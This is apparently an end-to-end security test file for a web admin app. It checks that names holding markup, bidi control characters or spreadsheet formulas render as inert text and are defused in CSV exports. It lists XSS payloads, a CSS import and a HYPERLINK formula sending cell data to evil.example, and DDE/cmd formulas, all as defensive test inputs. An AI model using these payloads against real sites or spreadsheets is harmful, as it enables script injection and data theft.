// Names with markup, bidi characters or formulas, through every entrance that accepts a name and in each place that shows one.
import { type Page } from "playwright/test";

import { builtActions, callAction, forgetTargets, newLink, pageHeaders, sessionOf } from "../access-calls";
import { PAGES } from "../access-table";
import { accessToken, callApi, type Database, expect, setting, signIn, test } from "../fixtures";

import { tried } from "./tried";

const MARKUP = [
  `<img src=x onerror="neoOwned=1">`,
  `"><script>neoOwned=1</script>`,
  `'><svg/onload=neoOwned=1>`,
  `</title><script>neoOwned=1</script>`,
  `</script><script>neoOwned=1</script>`,
  `<!--<script>neoOwned=1</script>-->`,
  `javascript:neoOwned=1`,
  "`-neoOwned=1-`",
  `{{constructor.constructor('neoOwned=1')()}}`,
  `\${neoOwned=1}`,
  `<a href="javascript:neoOwned=1">x</a>`,
  `&lt;img src=x onerror=neoOwned=1&gt;`,
  `</textarea><input onfocus=neoOwned=1 autofocus>`,
  `<style>@import'//evil.example'</style>`,
];

const actionOf = (name: string) => {
  const action = [...builtActions()].find(([key]) => key.endsWith(`#${name}`))?.[1];
  if (!action) throw new Error(`the build has no ${name}`);
  return action;
};

/** Characters that names must not contain, because they change how text reads. */
const STEERING = ["invoice\u202Egpj.exe", "a\u2066b\u2069", "\u202Dabc", "x\u2067y", "two\nlines", "nul\u0000l"];

test.afterEach(async ({ db }) => {
  await db.query("update tenants set name = 'Contoso' where entra_tenant_id = 'c0117050-0000-4000-8000-000000000001'");
  await db.query("update members set name = 'Contoso User' where name like 'Evil user %'");
  await db.query("delete from agents where name like 'evil %'");
  await forgetTargets(db);
  await db.query("delete from members where name like 'evil %'");
});

/** Submits these names through every entrance. @returns how many were accepted */
async function plant(db: Database, names: readonly string[], userAgent: string): Promise<number> {
  const token = await accessToken("Contoso Admin");
  const { cookie } = await sessionOf(db, "Contoso Admin");
  let taken = 0;
  for (const [n, name] of names.entries()) {
    const headers = {
      "content-type": "application/json",
      "user-agent": `${userAgent} ${name.replaceAll(/[^ -~]/g, "?")}`,
    };
    const post = async (path: string, body: unknown) => {
      const { status } = await callApi(path, token, { method: "POST", headers, body: JSON.stringify(body) });
      if (status === 201) taken++;
    };
    await post("/public-api/agents", { name: `evil ${name}`, description: name, trigger_type: "NONE", actions: [] });
    await post("/public-api/api-keys", { name: `evil ${name}` });
    const invited = { name: `evil ${name}`, email: `evil${String(n)}@evil.example`, role: "Viewer" };
    if ((await callAction(actionOf("inviteMemberAction"), invited, { cookie, headers })) === "OK") taken++;
    const key = { name: `evil ${name}`, expiry: { kind: "never" } };
    if ((await callAction(actionOf("createKeyAction"), key, { cookie, headers })) === "OK") taken++;
    // The list of sessions shows the User-Agent. A client can't choose the address.
    await db.query(
      `insert into sessions (id, member_id, expires_at, user_agent, client_address)
       select gen_random_uuid(), id, now() + interval '1 day', $1, '192.0.2.7' from members where name = 'Contoso Admin'`,
      [name.replaceAll("\0", "")],
    );
  }
  return taken;
}

/** Traces of injected scripts, elements or attributes on the open page. */
async function harm(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = "neoOwned" in window ? ["a script ran"] : [];
    for (const element of document.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith("on")) found.push(`${element.tagName} ${name}`);
        // React's placeholders for the action of a form: before and after hydration.
        if (/^javascript:throw new Error\('(React form|A React form was) unexpectedly submitted\./.test(value))
          continue;
        if (/^(href|src|action|formaction)$/.test(name) && /^\s*(javascript|data|vbscript):/i.test(value))
          found.push(`${name}=${value}`);
      }
      if (element.matches('img[src="x"], svg[onload], a[href*="neoOwned" i]:not([href^="/"])'))
        found.push(element.outerHTML);
    }
    return found;
  });
}

/** Opens every page and dialog of Contoso's admin. */
async function everyPage(page: Page, db: Database, visit: (what: string) => Promise<void>): Promise<void> {
  const [agent] = await db.query<{ id: string }>("select id from agents where name like 'evil %' order by id limit 1");
  for (const [address, { least }] of Object.entries(PAGES)) {
    if (address.includes("[") || address === "/not-in-organisation") continue;
    await page.goto(address);
    await page.waitForLoadState("networkidle");
    await visit(`${address} (${least})`);
  }
  await page.goto(`/agents/${agent?.id ?? ""}`);
  await visit("an agent");
  await page.goto("/roles-access/api-keys?q=evil");
  await page
    .getByRole("button", { name: /^Rotate evil/ })
    .first()
    .click();
  await expect(page.getByRole("dialog")).toBeVisible();
  await visit("the rotate dialog");
  await page.getByRole("button", { name: "Cancel" }).click();
  await page
    .getByRole("button", { name: /^Revoke evil/ })
    .first()
    .click();
  await expect(page.getByRole("dialog")).toBeVisible();
  await visit("the revoke dialog");
  await page.goto("/agents");
  await page.getByRole("button", { name: /^Account of/ }).click();
  await expect(page.getByRole("dialog", { name: "Account" })).toBeVisible();
  await visit("the account panel");
}

test("markup in any name is shown as text: key, agent, member, organisation, invitation, browser and address", async ({
  page,
  browser,
  db,
}) => {
  const refused: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy|refused to/i.test(message.text())) refused.push(message.text());
  });
  page.on("dialog", (dialog) => {
    refused.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (request.url().includes("evil.example")) refused.push(request.url());
  });
  const taken = await plant(db, MARKUP, "Evil/1.0");
  expect(taken).toBe(MARKUP.length * 4);
  await signIn(page, "Contoso Admin", "/agents");
  await db.query("update tenants set name = $1 where name = 'Contoso'", [MARKUP.slice(0, 5).join(" ")]);
  await db.query("update members set name = $1 where name = 'Contoso User'", [`Evil user ${MARKUP.join(" ")}`]);
  let seen = 0;
  let shown = 0;
  await everyPage(page, db, async (what) => {
    expect(await harm(page), what).toEqual([]);
    seen++;
    if ((await page.locator("body").innerText()).includes("neoOwned")) shown++;
  });
  // A search repeats it in the page and in its URL.
  for (const name of MARKUP.slice(0, 3)) {
    for (const path of ["/agents", "/roles-access/api-keys", "/roles-access/members", "/roles-access/audit-log"]) {
      await page.goto(`${path}?q=${encodeURIComponent(name)}`);
      expect(await harm(page), `${path} searched for ${name}`).toEqual([]);
      await expect(page.getByRole("searchbox")).toHaveValue(name);
      seen++;
    }
  }
  // Refused and invited people see names too.
  const guest = await (await browser.newContext({ baseURL: setting("NEO_E2E_URL") })).newPage();
  for (const path of [`/invitation/${await newLink(db)}`, "/sign-in?error=%3Cimg%20src=x%20onerror=neoOwned=1%3E"]) {
    await guest.goto(path);
    expect(await harm(guest), path).toEqual([]);
    seen++;
  }
  await signIn(guest, "Contoso Viewer", "/roles-access/api-keys");
  await expect(guest).toHaveURL(/access-denied/);
  expect(await harm(guest), "the refusal").toEqual([]);
  await guest.context().close();
  expect(shown).toBeGreaterThan(5);
  expect(refused).toEqual([]);
  tried(seen * MARKUP.length);
});

test("text direction and invisible characters in names are refused on input and isolated on display", async ({
  page,
  db,
}) => {
  // Every entrance refuses them.
  expect(await plant(db, STEERING, "Evil/1.0")).toBe(0);
  // Simulates names from Microsoft's directory or older rows that contain them.
  const steering = "\u202Eevil\u2066";
  await plant(db, ["for its rows"], "Evil/1.0");
  await db.query("update agents set name = 'evil ' || $1::text, description = $1::text where name like 'evil %'", [
    steering,
  ]);
  await db.query("update api_keys set name = 'evil ' || $1::text where name like 'evil %'", [steering]);
  await db.query("update members set name = 'evil ' || $1::text where name like 'evil %'", [steering]);
  await db.query("update sessions set user_agent = $1 where user_agent = 'for its rows'", [steering]);
  await signIn(page, "Contoso Admin", "/agents");
  await db.query("update tenants set name = 'Contoso' || $1::text where name = 'Contoso'", [steering]);
  let seen = 0;
  await everyPage(page, db, async (what) => {
    const { loose, all } = await page.evaluate(() => {
      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      const found: string[] = [];
      let count = 0;
      for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        const element = node.parentElement;
        if (!element || !/[\u202A-\u202E\u2066-\u2069]/.test(node.nodeValue ?? "")) continue;
        if (element.closest("script, style, title, next-route-announcer")) continue;
        count++;
        // An isolating element without other text must contain it, or it affects adjacent text; a block is its own bidi paragraph.
        let isolated = false;
        for (let at: Element | null = element; at?.textContent === node.nodeValue; at = at.parentElement) {
          const { unicodeBidi, display } = getComputedStyle(at);
          isolated ||= /isolate|plaintext/.test(unicodeBidi) || !/^(?:inline|contents)$/.test(display);
        }
        if (!isolated) found.push(`${element.tagName}: ${element.outerHTML.slice(0, 200)}`);
      }
      return { loose: found, all: count };
    });
    expect(loose, what).toEqual([]);
    seen += all;
  });
  expect(seen).toBeGreaterThan(10);
  tried(STEERING.length * 4 + seen);
});

/** The fields of a CSV file (RFC 4180). */
function csvFields(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, bare = "", end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
    if (end === "\r\n") rows.push([]);
  }
  return rows;
}

test("formulas in names are defused in exported files", async ({ db }) => {
  const formulas = [
    `=HYPERLINK("https://evil.example?"&A1,"x")`,
    "+1+1",
    "-2+3",
    "@SUM(1)",
    `=cmd|' /C calc'!A0`,
    "\uFF1D1+1",
    ` =1+1`,
    `"=1+1`,
    `x;=1+1`,
    `x,=1+1`,
    `DDE("cmd";"/C calc")`,
  ];
  const token = await accessToken("Contoso Admin");
  const { cookie } = await sessionOf(db, "Contoso Admin");
  const [{ now } = { now: new Date() }] = await db.query<{ now: Date }>("select clock_timestamp() as now");
  const begun = now.toISOString();
  for (const name of formulas) {
    const userAgent = name.replaceAll(/[^ -~]/g, "=");
    const headers = { "content-type": "application/json", "user-agent": userAgent };
    for (const [path, body] of [
      ["/public-api/agents", { name, trigger_type: "NONE", actions: [] }],
      ["/public-api/api-keys", { name }],
    ] as const)
      expect((await callApi(path, token, { method: "POST", headers, body: JSON.stringify(body) })).status, name).toBe(
        201,
      );
  }
  await db.query("delete from agents where name = any($1::text[])", [formulas.map((name) => name.trim())]);
  const response = await fetch(`${setting("NEO_E2E_URL")}/roles-access/audit-log/export?format=csv&from=${begun}`, {
    headers: pageHeaders(cookie),
  });
  const rows = csvFields((await response.text()).replace(/^\ufeff/, "")).slice(1);
  let defused = 0;
  const formulae: string[] = [];
  for (const field of rows.flat()) {
    // Spreadsheets separate cells by comma or, depending on the locale, by semicolon or tab.
    for (const cell of field.split(/[;\t\r\n]/)) {
      if (/^[\s"]*[=+\-@＝＋－＠]/.test(cell)) formulae.push(field);
      if (/^[\s"]*'[\s"]*[=+\-@＝＋－＠]/.test(cell)) defused++;
    }
  }
  expect(formulae).toEqual([]);
  expect(defused).toBeGreaterThan(formulas.length * 2);
  tried(rows.length);
});
